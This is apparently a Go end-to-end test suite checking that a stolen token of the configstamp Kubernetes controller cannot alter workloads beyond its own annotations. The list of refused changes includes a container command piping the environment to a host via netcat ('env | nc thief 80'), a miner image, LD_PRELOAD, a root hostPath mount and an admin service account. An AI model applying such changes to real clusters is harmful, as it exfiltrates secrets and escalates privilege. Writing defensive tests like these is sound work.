package e2e

import (
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/client-go/kubernetes"

	"github.com/configstamp/configstamp/checksum"
	"github.com/configstamp/configstamp/e2e/harness"
)

// What a thief can do to workloads with the token of configstamp's own service
// account. stolen_rights_test.go has the rest of the cluster.

// Those that refuse, by what they say.
const (
	byPolicy = "configstamp may change only its own annotations"
	byOptIn  = "configstamp may change workloads that are opted in, and no others"
	byPins   = "configstamp changes pins together with a stamp, and never alone"
	byRoles  = `User "` + harness.Account + `" cannot `
)

// How a request's body is to be understood.
const (
	asJSONPatch = "application/json-patch+json"
	asMerge     = "application/merge-patch+json"
	asStrategic = "application/strategic-merge-patch+json"
	asApply     = "application/apply-patch+yaml"
	asObject    = "application/json"
)

// request is sent as curl would send it.
type request struct {
	verb, path, contentType, body string
	impersonate                   string
}

func (q request) send(t *testing.T, as kubernetes.Interface) error {
	t.Helper()
	call := as.Discovery().RESTClient().Verb(q.verb).RequestURI(q.path)
	if q.body != "" {
		call = call.SetHeader("Content-Type", q.contentType).Body([]byte(q.body))
	}
	if q.impersonate != "" {
		call = call.SetHeader("Impersonate-User", q.impersonate)
	}
	return call.Do(t.Context()).Error()
}

// wantRefused wants somebody to refuse a request, saying so.
func wantRefused(t *testing.T, err error, saying string) {
	t.Helper()
	switch {
	case err == nil:
		t.Error("it was done")
	case apierrors.IsForbidden(err) && saying == byRoles && strings.HasSuffix(err.Error(), " is forbidden: "):
		// Before 1.32 Kubernetes says no more of an apply that would create.
	case !apierrors.IsForbidden(err) || !strings.Contains(err.Error(), saying):
		t.Errorf("%v\nwant it forbidden, with %q", err, saying)
	}
}

// heeded waits until the API server heeds a policy that refuses a request, which
// takes it a moment after the policy was made.
func heeded(t *testing.T, as kubernetes.Interface, q request) {
	t.Helper()
	q.path += "?dryRun=All"
	for deadline := time.Now().Add(10 * time.Second); !apierrors.IsForbidden(q.send(t, as)) && time.Now().Before(deadline); {
		time.Sleep(100 * time.Millisecond)
	}
}

// change is one place of an object, and what a thief writes there; nil takes it away.
type change struct {
	what  string
	at    []string
	value any
}

// document is the change as a merge patch.
func (c change) document() map[string]any {
	value := c.value
	for i := len(c.at) - 1; i >= 0; i-- {
		value = map[string]any{c.at[i]: value}
	}
	if document, ok := value.(map[string]any); ok {
		return document
	}
	return map[string]any{}
}

// patches are the change in every way that the API server takes for a kind.
func (c change) patches(t *testing.T, k attacked, name string) map[string]request {
	t.Helper()
	path := k.path + "/" + name
	merge := asJSON(t, c.document())
	operations := []any{}
	if len(c.at) > 0 {
		pointer := ""
		for _, field := range c.at {
			pointer += "/" + strings.ReplaceAll(strings.ReplaceAll(field, "~", "~0"), "/", "~1")
		}
		operation := map[string]any{"op": "add", "path": pointer, "value": c.value}
		if c.value == nil {
			operation = map[string]any{"op": "remove", "path": pointer}
		}
		operations = append(operations, operation)
	}
	all := map[string]request{
		"merge": {verb: "PATCH", path: path, contentType: asMerge, body: merge},
		"JSON":  {verb: "PATCH", path: path, contentType: asJSONPatch, body: asJSON(t, operations)},
	}
	if !k.custom {
		all["strategic"] = request{verb: "PATCH", path: path, contentType: asStrategic, body: merge}
	}
	if c.value != nil || len(c.at) == 0 {
		applied := c.document()
		applied["apiVersion"], applied["kind"] = k.apiVersion, k.kind
		metadata, _ := applied["metadata"].(map[string]any)
		if metadata == nil {
			metadata = map[string]any{}
		}
		metadata["name"] = name
		applied["metadata"] = metadata
		all["apply"] = request{verb: "PATCH", path: path + "?fieldManager=thief&force=true", contentType: asApply, body: asJSON(t, applied)}
	}
	return all
}

// attacked is a kind of workload, where its objects are, and what changes of its
// own it knows.
type attacked struct {
	kind, apiVersion, path string
	template               []string
	custom                 bool
	own                    []change
}

func (k attacked) short() string { return strings.ToLower(k.kind) }

func (k attacked) manifest(name string) string {
	if k.custom {
		return customKinds[0].manifest(name)
	}
	return workload(k.kind, name, "")
}

func inTemplate(k attacked, fields ...string) []string {
	return append(append([]string{}, k.template...), fields...)
}

// changes are what no thief may do to a workload.
func (k attacked) changes() []change {
	container := func(fields map[string]any) []any {
		one := map[string]any{"name": "app", "image": "registry.example/app:1"}
		for field, value := range fields {
			one[field] = value
		}
		return []any{one}
	}
	owner := map[string]any{"apiVersion": "v1", "kind": "ConfigMap", "name": "c", "uid": "0d8e5d5b-6a30-4f0c-8d5a-7d5a3b1f0c11"}
	misplaced := slices.Clone(k.own)
	for _, key := range checksum.OursOnWorkload() {
		misplaced = append(misplaced, change{key + " where it does not belong", inTemplate(k, "metadata", "annotations", key), "{}"})
	}
	return append([]change{
		{"another image", inTemplate(k, "spec", "containers"), container(map[string]any{"image": "registry.example/miner:1"})},
		{"a command", inTemplate(k, "spec", "containers"), container(map[string]any{"command": []any{"sh", "-c", "env | nc thief 80"}})},
		{"an environment variable", inTemplate(k, "spec", "containers"), container(map[string]any{"env": []any{map[string]any{"name": "LD_PRELOAD", "value": "/x.so"}}})},
		{"a second container", inTemplate(k, "spec", "initContainers"), []any{map[string]any{"name": "miner", "image": "registry.example/miner:1"}}},
		{"a volume of the node", inTemplate(k, "spec", "volumes"), []any{map[string]any{"name": "root", "hostPath": map[string]any{"path": "/"}}}},
		{"the node's network", inTemplate(k, "spec", "hostNetwork"), true},
		{"another service account", inTemplate(k, "spec", "serviceAccountName"), "admin"},
		{"a label", []string{"metadata", "labels", "stolen"}, "yes"},
		{"a label taken away", []string{"metadata", "labels", "app"}, nil},
		{"a label of the template", inTemplate(k, "metadata", "labels", "stolen"), "yes"},
		{"an owner", []string{"metadata", "ownerReferences"}, []any{owner}},
		{"a finalizer", []string{"metadata", "finalizers"}, []any{"example.com/stuck"}},
		{"somebody's annotation", []string{"metadata", "annotations", "example.com/team"}, "thieves"},
		{"somebody's annotation taken away", []string{"metadata", "annotations", "example.com/team"}, nil},
		{"somebody's annotation on the template", inTemplate(k, "metadata", "annotations", "kubectl.kubernetes.io/restartedAt"), "now"},
		{"a policy", []string{"metadata", "annotations", "configstamp.dev/pause"}, "false"},
		{"pins where none belong", []string{"metadata", "annotations", "configstamp.dev/pins"}, "{}"},
	}, misplaced...)
}

// allowed are what webhooks may add to a patch of configstamp's.
func (k attacked) allowed() []change {
	changes := []change{
		{"nothing", nil, nil},
		{"the stamp of a ConfigMap", inTemplate(k, "metadata", "annotations", harness.StampKey("configmap/c")), "v1:absent"},
		{"the stamp of a Secret", inTemplate(k, "metadata", "annotations", harness.StampKey("secret/c")), "v1:absent"},
		// A later release's, whose webhook may answer an empty patch of this one.
		{"the mark of a pinned Pod", inTemplate(k, "metadata", "annotations", "configstamp.dev/pinned"), "{}"},
	}
	for _, key := range checksum.OursOnWorkload() {
		changes = append(changes, change{key, []string{"metadata", "annotations", key}, "{}"})
	}
	return changes
}

// foreign is all of an object that a thief must not have changed.
func (k attacked) foreign(object *unstructured.Unstructured) map[string]any {
	copied := object.DeepCopy().Object
	delete(copied, "status")
	for _, field := range []string{"managedFields", "resourceVersion", "generation"} {
		unstructured.RemoveNestedField(copied, "metadata", field)
	}
	for _, at := range [][]string{{"metadata", "annotations"}, inTemplate(k, "metadata", "annotations")} {
		annotations, _, _ := unstructured.NestedMap(copied, at...)
		for key := range annotations {
			// Kubernetes writes the two of its own.
			if strings.Contains(key, "configstamp.dev/") || key == "deployment.kubernetes.io/revision" || key == "deprecated.daemonset.template.generation" {
				unstructured.RemoveNestedField(copied, append(at, key)...)
			}
		}
	}
	return copied
}

func TestStolenToken_ChangesNothingOfAWorkloadButOurAnnotations(t *testing.T) {
	harness.Must(t, run.Exclusive(t).Stop()) // no webhook of ours: what is refused is refused by the policy
	s := run.Space(t)
	rollout := customKinds[0]
	rollout.define(t, s)
	thief := run.Stolen(t)
	replicas := change{"more replicas", []string{"spec", "replicas"}, 5}
	history := change{"a shorter history", []string{"spec", "revisionHistoryLimit"}, 1}
	slower := change{"a slower rollout", []string{"spec", "minReadySeconds"}, 9}
	paused := change{"a pause", []string{"spec", "paused"}, true}
	for _, k := range []attacked{
		{"Deployment", "apps/v1", "deployments", []string{"spec", "template"}, false, []change{replicas, paused, history}},
		{"StatefulSet", "apps/v1", "statefulsets", []string{"spec", "template"}, false, []change{replicas, slower}}, // before 1.33 nobody can change its history
		{"DaemonSet", "apps/v1", "daemonsets", []string{"spec", "template"}, false, []change{history, slower}},
		{"CronJob", "batch/v1", "cronjobs", []string{"spec", "jobTemplate", "spec", "template"}, false,
			[]change{{"its schedule", []string{"spec", "schedule"}, "* * * * *"}, {"a label of its Jobs", []string{"spec", "jobTemplate", "metadata", "labels"}, map[string]any{"stolen": "yes"}}}},
		{rollout.kind, rollout.group + "/" + rollout.version, rollout.resource, rollout.template, true, []change{replicas, paused}},
	} {
		k.path = fmt.Sprintf("/apis/%s/namespaces/%s/%s", k.apiVersion, s.Namespace, k.path)
		t.Run(k.kind, func(t *testing.T) { k.attack(t, s.In(t), thief) })
	}
}

// A stamp in a template restarts what it is written into. Nothing gets one by our token but
// by what the webhook answers, and only what is opted in is patched at all, whoever opts it
// in with that token.
func TestStolenToken_RestartsNothingThatIsNotOptedIn(t *testing.T) {
	t.Parallel()
	thief := run.Stolen(t)
	in, plain, system := run.Space(t), run.PlainSpace(t), run.Existing(t, "kube-system")
	const enabled, disabled = `{"labels":{"configstamp.dev/inject":"enabled"}}`, `{"labels":{"configstamp.dev/inject":"disabled"}}`
	for i, test := range []struct {
		what     string
		space    *harness.Space
		kind     string
		metadata string // that somebody else has written
		steals   string // that the thief writes along with the stamp
		refused  string
	}{
		{"a DaemonSet of kube-system", system, "DaemonSet", "", "", byOptIn},
		{"one of kube-system that is labelled", system, "DaemonSet", enabled, "", byOptIn},
		{"a Deployment in a namespace that is not opted in", plain, "Deployment", "", "", byOptIn},
		{"a StatefulSet", plain, "StatefulSet", "", "", byOptIn},
		{"a DaemonSet", plain, "DaemonSet", "", "", byOptIn},
		{"a CronJob", plain, "CronJob", "", "", byOptIn},
		{"one that the thief opts in", plain, "Deployment", "", enabled, byOptIn},
		{"one that is annotated for Reloader, as not wanted", plain, "Deployment", `{"annotations":{"reloader.stakater.com/auto":"false"}}`, "", byOptIn},
		{"one that has opted out", in, "Deployment", disabled, "", byOptIn},
		{"one that has opted out, and the thief opts in", in, "Deployment", disabled, enabled, byOptIn},
		{"one of a namespace that is opted in", in, "Deployment", "", "", ""},
		{"one that has opted in", plain, "Deployment", enabled, "", ""},
		{"one that is annotated for Reloader", plain, "Deployment", `{"annotations":{"reloader.stakater.com/auto":"true"}}`, "", ""},
	} {
		t.Run(test.what, func(t *testing.T) {
			s, name, template := test.space.In(t), fmt.Sprintf("stolen-%d", i), []string{"spec", "template"}
			path := fmt.Sprintf("/apis/apps/v1/namespaces/%s/%ss/%s", s.Namespace, strings.ToLower(test.kind), name)
			if test.kind == "CronJob" {
				path, template = strings.Replace(path, "apps", "batch", 1), []string{"spec", "jobTemplate", "spec", "template"}
			}
			s.Create(workload(test.kind, name, ""))
			t.Cleanup(func() { s.Delete(strings.ToLower(test.kind) + "/" + name) }) // kube-system stays
			if test.metadata != "" {
				s.Patch(strings.ToLower(test.kind)+"/"+name, `{"metadata":`+test.metadata+`}`)
			}
			stamp := change{at: append(template, "metadata", "annotations", harness.StampKey("configmap/c")), value: "v1:absent"}.document()
			if test.steals != "" {
				stamp["metadata"] = json.RawMessage(test.steals)
			}
			q := request{verb: "PATCH", path: path, contentType: asMerge, body: asJSON(t, stamp)}
			if test.refused != "" {
				wantRefused(t, q.send(t, thief), test.refused)
				return
			}
			wantRefused(t, q.send(t, thief), "configstamp: blocked: metadata.managedFields: "+byPolicy)
			q.body = "{}"
			harness.Must(t, q.send(t, thief))
		})
	}
}

func (k attacked) attack(t *testing.T, s *harness.Space, thief kubernetes.Interface) {
	s.Create(k.manifest("web"))
	s.Patch(k.short()+"/web", `{"metadata":{"labels":{"app":"web"},"annotations":{"example.com/team":"web"}}}`)
	s.Patch(k.short()+"/web", asJSON(t, change{at: inTemplate(k, "metadata", "annotations", "example.com/team"), value: "web"}.document()))
	before := k.foreign(s.Get(k.short() + "/web"))
	heeded(t, thief, change{"", []string{"metadata", "labels", "stolen"}, "yes"}.patches(t, k, "web")["merge"])
	for _, c := range k.changes() {
		for way, q := range c.patches(t, k, "web") {
			t.Run(c.what+" by "+way, func(t *testing.T) { wantRefused(t, q.send(t, thief), byPolicy) })
		}
	}
	// What nobody owns is as if a webhook had added it; of an object that was reset the API server says so.
	s.Patch(k.short()+"/web", `{"metadata":{"managedFields":[{}]}}`)
	for _, c := range k.allowed() {
		ways := c.patches(t, k, "web")
		delete(ways, "apply") // always owns what it says
		for way, q := range ways {
			t.Run(c.what+" by "+way, func(t *testing.T) {
				harness.Must(t, q.send(t, thief))
				if got, _, _ := unstructured.NestedString(s.In(t).Get(k.short()+"/web").Object, c.at...); len(c.at) > 0 && got != c.value {
					t.Errorf("stored is %q, want %q", got, c.value)
				}
			})
		}
	}
	k.attackPins(t, s, thief)
	object := asJSON(t, s.Get(k.short()+"/web").Object)
	for what, q := range map[string]request{
		"created":             {verb: "POST", path: k.path, contentType: asObject, body: object},
		"created by an apply": {verb: "PATCH", path: k.path + "/another?fieldManager=thief&force=true", contentType: asApply, body: k.manifest("another")},
		"put":                 {verb: "PUT", path: k.path + "/web", contentType: asObject, body: object},
		"deleted":             {verb: "DELETE", path: k.path + "/web"},
		"all deleted":         {verb: "DELETE", path: k.path},
		"scaled":              {verb: "PATCH", path: k.path + "/web/scale", contentType: asMerge, body: `{"spec":{"replicas":5}}`},
		"its status":          {verb: "PATCH", path: k.path + "/web/status", contentType: asMerge, body: `{"status":{"replicas":5}}`},
	} {
		t.Run(what, func(t *testing.T) { wantRefused(t, q.send(t, thief), byRoles) })
	}
	if diff := cmp.Diff(before, k.foreign(s.Get(k.short()+"/web"))); diff != "" {
		t.Errorf("the thief has changed it:\n%s", diff)
	}
}

// attackPins has a thief change pins, which new pods are started by, one after the other.
func (k attacked) attackPins(t *testing.T, s *harness.Space, thief kubernetes.Interface) {
	const pins = "configstamp.dev/pins"
	stamp, other := harness.StampKey("configmap/c"), harness.StampKey("secret/c")
	for _, test := range []struct {
		what    string
		writes  map[string]any
		refused string
	}{
		{"new pins alone", map[string]any{pins: "{}"}, byPins},
		{"new pins beside the mark of a Pod", map[string]any{pins: "{}", "configstamp.dev/pinned": "other"}, byPins},
		{"new pins and another stamp", map[string]any{pins: "{}", stamp: "v1:other"}, ""},
		{"other pins alone", map[string]any{pins: "other"}, byPins},
		{"other pins, and a stamp that was there", map[string]any{pins: "other", stamp: "v1:other"}, byPins},
		{"no pins", map[string]any{pins: nil}, byPins},
		{"another stamp alone", map[string]any{stamp: "v1:absent"}, ""},
		{"other pins, and a stamp less", map[string]any{pins: "other", other: nil}, ""},
		{"no pins, and a stamp more", map[string]any{pins: nil, other: "v1:absent"}, ""},
	} {
		t.Run(test.what, func(t *testing.T) {
			c := change{at: inTemplate(k, "metadata", "annotations"), value: test.writes}
			err := request{verb: "PATCH", path: k.path + "/web", contentType: asMerge, body: asJSON(t, c.document())}.send(t, thief)
			if test.refused != "" {
				wantRefused(t, err, test.refused)
				return
			}
			harness.Must(t, err)
			annotations, _, _ := unstructured.NestedMap(s.In(t).Get(k.short()+"/web").Object, c.at...)
			for key, want := range test.writes {
				if annotations[key] != want {
					t.Errorf("stored is %s: %v, want %v", key, annotations[key], want)
				}
			}
		})
	}
}

func asJSON(t *testing.T, v any) string {
	t.Helper()
	text, err := json.Marshal(v)
	harness.Must(t, err)
	return string(text)
}
